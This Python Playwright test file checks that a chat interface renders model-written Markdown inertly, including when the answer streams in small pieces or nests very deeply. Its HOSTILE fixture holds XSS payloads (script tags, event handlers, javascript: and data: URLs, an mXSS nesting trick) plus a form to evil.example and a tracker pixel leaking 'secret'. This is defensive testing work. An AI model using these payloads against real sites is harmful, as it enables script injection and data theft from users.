"""What a model writes cannot act on the page, whatever it writes and wherever it is cut."""

from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import CHAT, answered, ask, enter, events
from tests.support.servers import Emulators, Gateways

HOSTILE = """# Fine

<script>window.broken = 1</script>

<img src="x" onerror="window.broken = 2">

<svg onload="window.broken = 3"><animate onbegin="window.broken = 4" attributeName="x"></svg>

[a link](javascript:window.broken=5) [data](data:text/html,<script>window.broken=6</script>)

![a picture](https://tracker.example/pixel.png?text=secret) ![" onerror="window.broken=16](x"onerror="window.broken=17)

<a href="&#106;avascript:window.broken=7" onclick="window.broken=8" id="log">press</a>

<iframe srcdoc="<script>parent.broken = 9</script>"></iframe>

<form action="https://evil.example"><input name="key"><button>Go</button></form>

<style>body { display: none }</style>

<p style="position:fixed;inset:0" class="strip" id="form">over everything</p>

<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=window.broken=10>">

```html "><script>window.broken = 11</script>
<script>window.broken = 12</script>
```

| a | <img src=x onerror=window.broken=13> |
|---|---|
| [x](vbscript:x) | `<b onmouseover=window.broken=14>` |

- [x] done
- [a](https://good.example/page)

<dialog open>over everything</dialog>

<details open ontoggle=window.broken=15><summary>x</summary></details>

The end.
"""


def answer_with(page: Page, body: str) -> None:
    """In place of the engine."""
    page.unroute(CHAT)
    page.route(CHAT, lambda route: route.fulfill(content_type="text/event-stream", body=body))


def test_hostile_markdown_is_inert(browser: Browser, emulator: Emulators, gateway: Gateways) -> None:
    """No script, no request to anybody, no form, nothing that covers the page; what is harmless stays."""
    served = gateway([emulator()])
    page = browser.new_page()  # whose console may say what the policy of content has refused
    foreign: list[str] = []
    page.on("request", lambda request: foreign.append(request.url) if not request.url.startswith(served.url) else None)
    pieces = [HOSTILE[at : at + 7] for at in range(0, len(HOSTILE), 7)]
    answer_with(page, events(*pieces))
    enter(page, served)

    ask(page, "Be evil.")
    answered(page)
    for link in page.locator(".assistant .text a").all():
        link.hover()

    text = page.locator(".assistant .text")
    expect(text.get_by_role("heading", name="Fine")).to_be_visible()
    expect(text.get_by_text("The end.")).to_be_visible()
    expect(text.get_by_text("☑ done")).to_be_visible()
    expect(text.get_by_role("link", name="[a picture]")).to_have_attribute("rel", "noopener noreferrer nofollow")
    links = text.locator("a[href]").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert links == ["https://tracker.example/pixel.png?text=secret", "https://good.example/page"]
    assert (
        text.locator("script, img, svg, iframe, form, input, style, dialog, [style], [id], .strip, math").count() == 0
    )
    assert (
        text.locator("*").evaluate_all("all => all.flatMap(e => e.getAttributeNames()).filter(n => n.startsWith('on'))")
        == []
    )
    assert page.evaluate("window.broken") is None
    assert foreign == []
    expect(page.get_by_label("Message", exact=True)).to_be_visible()


def test_markdown_is_drawn_the_same_however_it_is_cut(page: Page, emulator: Emulators, gateway: Gateways) -> None:
    """Lists, code, tables and quotes: in one piece, or a few characters at a time; code has its colours."""
    served = gateway([emulator()])
    text = (
        "# One\n\nA *long* paragraph with `code`\nand a second line.\n\n- one\n- two"
        "\n\n  more\n\n1. first\n2. second\n\n"
        "```python\ndef f(x):\n    return `x` # ``` not the end\n\n```\n\n"
        "> said\n> so\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nend"
    )
    seen = []
    enter(page, served)
    for turn, size in enumerate((len(text), 1, 3)):
        body = events(*(text[at : at + size] for at in range(0, len(text), size)))
        answer_with(page, body)
        ask(page, "Write.")
        answered(page, turn + 1)
        seen.append(page.locator(".assistant .text").last.inner_html())

    assert seen[0] == seen[1] == seen[2]
    assert "hljs-keyword" in seen[0]
    assert seen[0].count("<li>") == 4


def test_an_answer_nested_without_end_leaves_the_page_in_order(
    page: Page, emulator: Emulators, gateway: Gateways
) -> None:
    """Deeper than a parser's stack: it is shown as text, now and when it is opened again."""
    served = gateway([emulator()])
    enter(page, served)
    answer_with(page, events(*["> " * 500] * 24))

    ask(page, "Quote.")
    answered(page)
    page.reload()
    page.get_by_role("button", name="Quote.", exact=True).click()

    expect(page.locator(".assistant .text")).to_contain_text("> > >")
